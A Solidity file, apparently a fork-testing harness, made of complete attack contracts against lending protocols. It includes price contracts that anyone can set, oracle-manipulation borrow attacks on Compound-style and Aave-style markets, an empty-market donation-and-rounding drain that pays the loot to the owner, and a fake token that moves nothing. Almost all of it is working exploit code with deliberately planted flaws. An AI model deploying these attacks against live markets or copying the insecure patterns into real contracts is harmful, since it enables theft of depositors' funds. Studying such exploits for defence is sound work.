// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

// Attacks of our own on real contracts, for forks of their recorded state only. What is wrong with the contracts was planted.

interface IToken {
    function balanceOf(address) external view returns (uint256);
    function approve(address, uint256) external returns (bool);
    function transfer(address, uint256) external returns (bool);
}

interface IWrapped is IToken {
    function deposit() external payable;
    function withdraw(uint256) external;
}

interface IMarket is IToken {
    function mint() external payable;
    function mint(uint256) external returns (uint256);
    function redeem(uint256) external returns (uint256);
    function redeemUnderlying(uint256) external returns (uint256);
    function borrow(uint256) external returns (uint256);
    function getCash() external view returns (uint256);
}

interface IComptroller {
    function enterMarkets(address[] calldata) external returns (uint256[] memory);
}

/// @dev Of Aave v2 and v3, which still knows `deposit`.
interface ILendingPool {
    function deposit(address, uint256, address, uint16) external;
    function borrow(address, uint256, uint256, uint16, address) external;
}

interface IStablePool {
    function exchange(int128, int128, uint256, uint256) external;
}

/// @notice FLAW: anybody may set a price. Stands in the place of a market's real oracle.
contract WildOpenPrices {
    mapping(address market => uint256) public getUnderlyingPrice;

    function setPrice(address market, uint256 price) external {
        getUnderlyingPrice[market] = price;
    }
}

/// @notice Deposits one ether, calls it a fortune, and borrows on it.
contract WildPriceLoan {
    address private immutable owner = msg.sender;
    WildOpenPrices private immutable prices;
    IComptroller private immutable comptroller;
    IMarket private immutable collateral;
    IMarket private immutable wanted;
    IToken private immutable loan;

    constructor(WildOpenPrices prices_, IComptroller comptroller_, IMarket collateral_, IMarket wanted_, IToken loan_) {
        (prices, comptroller, collateral, wanted, loan) = (prices_, comptroller_, collateral_, wanted_, loan_);
    }

    function attack(uint256 amount) external payable {
        uint256 fair = prices.getUnderlyingPrice(address(collateral));
        prices.setPrice(address(collateral), fair * 1_000_000);
        collateral.mint{value: msg.value}();
        address[] memory markets = new address[](1);
        markets[0] = address(collateral);
        comptroller.enterMarkets(markets);
        require(wanted.borrow(amount) == 0, "not lent");
        prices.setPrice(address(collateral), fair);
        loan.transfer(owner, loan.balanceOf(address(this)));
    }
}

/// @notice FLAW: anybody may set the price. Stands in the place of a price feed that an oracle asks.
contract WildOpenFeed {
    int256 public latestAnswer;

    constructor(int256 price) {
        latestAnswer = price;
    }

    function set(int256 price) external {
        latestAnswer = price;
    }
}

/// @notice Sets a feed a million times too high, deposits a little of its asset in a pool, borrows another on it, sets it back.
contract WildFeedLoan {
    address private immutable owner = msg.sender;
    WildOpenFeed private immutable feed;
    ILendingPool private immutable pool;
    IToken private immutable collateral;
    IToken private immutable loan;

    constructor(WildOpenFeed feed_, ILendingPool pool_, IToken collateral_, IToken loan_) {
        (feed, pool, collateral, loan) = (feed_, pool_, collateral_, loan_);
    }

    function attack(uint256 amount) external payable {
        int256 fair = feed.latestAnswer();
        feed.set(fair * 1_000_000);
        uint256 deposit = collateral.balanceOf(address(this)) / 2;
        collateral.approve(address(pool), deposit);
        pool.deposit(address(collateral), deposit, address(this), 0);
        pool.borrow(address(loan), amount, 2, 0, address(this));
        feed.set(fair);
        loan.transfer(owner, loan.balanceOf(address(this)));
    }
}

/// @notice Makes two shares of an empty market worth a fortune by a gift, borrows on them, and takes the gift back by rounding.
contract WildEmptyMarket {
    address private immutable owner = msg.sender;
    IComptroller private immutable comptroller;
    IMarket private immutable empty;
    IMarket private immutable wanted;
    IToken private immutable gift;
    IWrapped private immutable wrapped;
    IStablePool private immutable pool;

    constructor(
        IComptroller comptroller_,
        IMarket empty_,
        IMarket wanted_,
        IToken gift_,
        IWrapped wrapped_,
        IStablePool pool_
    ) {
        (comptroller, empty, wanted, gift, wrapped, pool) = (comptroller_, empty_, wanted_, gift_, wrapped_, pool_);
    }

    function attack(uint256 amount) external payable {
        swapIn(msg.value);
        gift.approve(address(empty), type(uint256).max);
        if (empty.balanceOf(address(this)) == 0) {
            require(empty.mint(1_000_000) == 0, "not minted");
            require(empty.redeem(empty.balanceOf(address(this)) - 2) == 0, "not redeemed");
            address[] memory markets = new address[](1);
            markets[0] = address(empty);
            comptroller.enterMarkets(markets);
        } else {
            require(empty.mint(1) == 0, "not minted");
        }
        gift.transfer(address(empty), gift.balanceOf(address(this)));
        require(wanted.borrow(amount) == 0, "not lent");
        require(empty.redeemUnderlying(empty.getCash() - 1) == 0, "gift not taken back");
        swapOut();
        (bool done,) = owner.call{value: address(this).balance}("");
        require(done, "not paid");
    }

    function swapIn(uint256 amount) private {
        wrapped.deposit{value: amount}();
        wrapped.approve(address(pool), amount);
        pool.exchange(0, 1, amount, 0);
    }

    function swapOut() private {
        uint256 amount = gift.balanceOf(address(this));
        gift.approve(address(pool), amount);
        pool.exchange(1, 0, amount, 0);
        wrapped.withdraw(wrapped.balanceOf(address(this)));
    }

    receive() external payable {}
}

/// @notice Says that it was paid and moves nothing.
contract WildWorthless {
    function transferFrom(address, address, uint256) external pure returns (bool) {
        return true;
    }
}
